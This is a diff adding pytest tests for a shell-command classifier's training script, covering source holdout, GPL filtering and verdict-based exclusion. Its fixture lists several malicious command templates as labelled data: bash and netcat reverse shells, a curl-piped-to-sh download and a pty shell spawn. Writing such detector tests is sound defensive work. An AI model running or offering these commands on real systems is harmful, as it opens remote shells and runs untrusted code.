@@ -1,0 +1,85 @@
+from __future__ import annotations
+
+import json
+
+import pyarrow as pa
+import pyarrow.parquet as pq
+import pytest
+
+from cmdclf.classify import Scorer
+from cmdclf.classify.train_pools import main
+
+BENIGN = (
+    "tar czf /backup/{0}.tgz /srv/{0}",
+    "systemctl restart {0}",
+    "rsync -a /srv/{0}/ /mnt/{0}/",
+    "logger -t {0} done",
+)
+MALICIOUS = (
+    "bash -i >& /dev/tcp/198.51.100.{0}/443 0>&1",
+    "nc -e /bin/sh 203.0.113.{0} 4444",
+    "curl -s http://192.0.2.{0}/x | sh",
+    "python3 -c 'import pty; pty.spawn({0})'",
+)
+NAMES = [f"{a}{b}" for a in ("alpha", "bravo", "delta", "omega") for b in ("mail", "shop", "docs", "wiki", "auth")]
+
+
+@pytest.fixture
+def pool(tmp_path):
+    rows = [
+        {"command_line": line.format(name), "label": "benign", "source": f"docs{number % 4}", "license": "MIT"}
+        for number, line in enumerate(BENIGN)
+        for name in NAMES
+    ] + [
+        {"command_line": line.format(n), "label": "malicious", "source": f"attack{number}", "license": "MIT"}
+        for number, line in enumerate(MALICIOUS)
+        for n in range(1, 31)
+    ]
+    for number, row in enumerate(rows):
+        row |= {"platform": "linux", "group_id": f"g{number}", "hard": False}
+    path = tmp_path / "pool.parquet"
+    pq.write_table(pa.Table.from_pylist(rows), path)
+    return path
+
+
+def test_a_model_is_trained_on_some_sources_and_measured_on_the_others(pool, tmp_path, capsys):
+    assert main(["--pool", str(pool), "--out", str(tmp_path / "model"), "--with-gpl", "--name", "small"]) == 0
+    metrics = json.loads(capsys.readouterr().out)
+    manifest = Scorer.load(tmp_path / "model").manifest
+    assert manifest["name"] == "small"
+    assert metrics["held_out"]
+    assert not set(metrics["held_out"]) & set(manifest["provenance"]["sources"])
+    assert metrics["n_benign"] > 0
+    assert metrics["n_malicious"] > 0
+
+
+def test_gpl_sources_are_left_out_of_training_unless_asked_for(pool, tmp_path, capsys):
+    table = pq.read_table(pool)
+    gpl = pa.array(["GPL-3.0-only" if s == "docs0" else "MIT" for s in table["source"].to_pylist()])
+    pq.write_table(table.set_column(table.column_names.index("license"), "license", gpl), pool)
+    assert main(["--pool", str(pool), "--out", str(tmp_path / "model")]) == 0
+    capsys.readouterr()
+    assert "docs0" not in Scorer.load(tmp_path / "model").manifest["provenance"]["sources"]
+
+
+def test_lines_that_a_verdict_contradicts_do_not_train(pool, tmp_path, capsys):
+    table = pq.read_table(pool)
+    verdicts = pa.table(
+        {
+            "process_command_line": table["command_line"],
+            "platform": table["platform"],
+            "verdict": ["malicious" if x.startswith("logger") else "unsure" for x in table["command_line"].to_pylist()],
+        }
+    )
+    pq.write_table(verdicts, tmp_path / "verdicts.parquet")
+    arguments = ["--pool", str(pool), "--out", str(tmp_path / "model"), "--with-gpl"]
+    assert main([*arguments, "--verdicts", str(tmp_path / "verdicts.parquet")]) == 0
+    capsys.readouterr()
+    provenance = Scorer.load(tmp_path / "model").manifest["provenance"]
+    held = "docs3" not in provenance["sources"] and provenance["left_out"]["contradicted by a verdict"] == 0
+    assert held or provenance["left_out"]["contradicted by a verdict"] == 20
+
+
+def test_a_missing_pool_is_named(tmp_path, capsys):
+    assert main(["--pool", str(tmp_path / "none.parquet"), "--out", str(tmp_path / "model")]) == 2
+    assert "none.parquet" in capsys.readouterr().err
